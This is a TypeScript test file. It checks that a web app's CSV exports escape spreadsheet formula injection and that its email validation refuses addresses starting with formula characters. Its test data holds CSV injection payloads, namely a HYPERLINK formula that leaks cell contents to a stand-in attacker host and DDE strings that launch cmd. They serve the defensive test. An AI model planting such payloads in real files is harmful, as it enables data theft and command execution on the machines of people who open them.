/**
 * Issue 11, item 5: exported CSVs carried `=HYPERLINK(...)`, `+1+cmd|' /C calc'!A0`,
 * `@SUM(A1:A9)` and a department named `=1+2` as live formulas. Every CSV the app writes goes
 * through one writer (csvStream, csv-stringify with `escape_formulas`): a text cell starting
 * with = + - @ (also full width), a tab or a carriage return gets a leading '. Numbers stay
 * numbers, a minus sign included. An email address starting with such a character is refused.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isValidEmail } from '../../src/platform/input/email.ts';
import { csvStream } from '../../src/features/exports/csv.server.ts';
import { get } from '../helpers/http.ts';
import { afterPost, type App, startApp, submit } from './support.ts';
import { sqlRows } from '../helpers/db.ts';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1+cmd|' /C calc'!A0", '@SUM(A1:A9)', "-2+3+cmd|' /C notepad'!A0", '\tTAB=1+1', '\rCR=1+1', '＝1+1'];
const DEPARTMENT = '=1+2';
/** Starts a formula in Excel, LibreOffice, Google Sheets or Numbers. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** What a JavaScript number prints as: the only cells allowed to start with a minus sign. */
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/;

let app: App;
beforeAll(async () => {
  const users: Parameters<typeof startApp>[0]['users'] = {
    admin: { role: 'admin', department: 'IT' },
    champion: { role: 'champion', department: DEPARTMENT, name: PAYLOADS[0] },
  };
  for (const [i, name] of PAYLOADS.entries()) users[`victim${i}`] = { role: 'learner', department: DEPARTMENT, name, password: null };
  app = await startApp({
    users,
    // Stored as given (createUser trims names; data from SSO claims or older versions may not be trimmed).
    prepare: async (db, ids) => {
      for (const [i, name] of PAYLOADS.entries()) await sqlRows(db, 'update users set display_name = ? where id = ?', name, ids[`victim${i}`]);
    },
  });
});
afterAll(() => app?.stop());

async function download(path: string, cookie: string): Promise<string[][]> {
  const response = await get(app.url, path, cookie);
  expect(response.status, path).toBe(200);
  expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
  return parse(await response.text(), { bom: true, relax_column_count: true }) as string[][];
}

function expectNoLiveFormula(rows: string[][], where: string): void {
  for (const row of rows) {
    for (const cell of row) {
      if (FORMULA_START.test(cell)) expect(cell, `${where}: a cell would run as a formula`).toMatch(NUMBER);
    }
  }
}

describe('CSV formula injection', () => {
  it('escapes every formula cell in every admin export and the champion roster', async () => {
    const exports = [
      ...['/admin/exports/users.csv', '/admin/exports/users.csv?bom=1', '/admin/exports/completions.csv', '/admin/exports/attempts.csv', '/admin/exports/kpis.csv'],
      ...['/admin/exports/evidence.csv', '/admin/exports/evidence.csv?inactive=1&bom=1', `/admin/users/${app.ids.victim0}/transcript.csv`],
    ];
    const seen: Record<string, string[][]> = {};
    for (const path of exports) {
      seen[path] = await download(path, app.cookies.admin!);
      expectNoLiveFormula(seen[path]!, path);
    }
    const roster = await download('/champion/roster.csv', app.cookies.champion!);
    expectNoLiveFormula(roster, 'roster');

    // The payloads are still there, readable as text with the leading apostrophe.
    const users = seen['/admin/exports/users.csv']!;
    for (const name of PAYLOADS)
      expect(
        users.some((row) => row[1] === `'${name}`),
        name,
      ).toBe(true);
    expect(users.some((row) => row[2] === `'${DEPARTMENT}`)).toBe(true);
    expect(roster.some((row) => row[1] === `'${PAYLOADS[0]}`)).toBe(true);
    expect(seen['/admin/exports/kpis.csv']!.some((row) => row[1] === `'${DEPARTMENT}`)).toBe(true);
    // the evidence table: name and department
    const evidence = seen['/admin/exports/evidence.csv']!;
    for (const name of PAYLOADS)
      expect(
        evidence.some((row) => row[1] === `'${name}` && row[3] === `'${DEPARTMENT}`),
        name,
      ).toBe(true);
  });

  it('keeps numbers numeric, a minus sign included, and escapes the same text', async () => {
    const reader = csvStream(['change', 'text', 'formula', 'rate'], [[-5, '-5', '=1+2', 0.25]], false).getReader();
    let text = '';
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) text += new TextDecoder().decode(chunk.value);
    expect(text).toBe("change,text,formula,rate\r\n-5,'-5,'=1+2,0.25\r\n");
  });

  it('refuses an email address that starts with a formula character, in the import and the form', async () => {
    for (const email of ['=cmd@example.com', '+1@example.com', '-x@example.com', '＝x@example.com']) expect(isValidEmail(email), email).toBe(false);
    expect(isValidEmail('a+tag@example.com')).toBe(true);

    const form = new FormData();
    form.set('file', new File(['email,name,department,role\n=cmd@example.com,X,Sales,learner\n-x@example.com,Y,Sales,learner\n'], 'u.csv', { type: 'text/csv' }));
    const imported = await afterPost(
      app.url,
      await fetch(`${app.url}/admin/users?_action=admin.importUsers`, { method: 'POST', redirect: 'manual', headers: { cookie: app.cookies.admin!, origin: app.url }, body: form }),
      app.cookies.admin,
    );
    expect(imported.status).toBe(400);
    const html = await imported.text();
    expect(html).toContain('2行目：メールアドレス「=cmd@example.com」が正しくありません');
    expect(html).toContain('3行目：メールアドレス「-x@example.com」が正しくありません');

    const created = await submit(app.url, '/admin/users?_action=admin.createUser', app.cookies.admin, {
      email: '@SUM(A1)@example.com',
      name: 'Z',
      department: 'Sales',
      role: 'learner',
    });
    expect(created.status).toBe(400);
    const stored = await sqlRows<{ email: string }>(app.db, 'select email from users');
    expect(stored.filter((row) => /^[=+@-]/.test(row.email))).toEqual([]);
  });
});
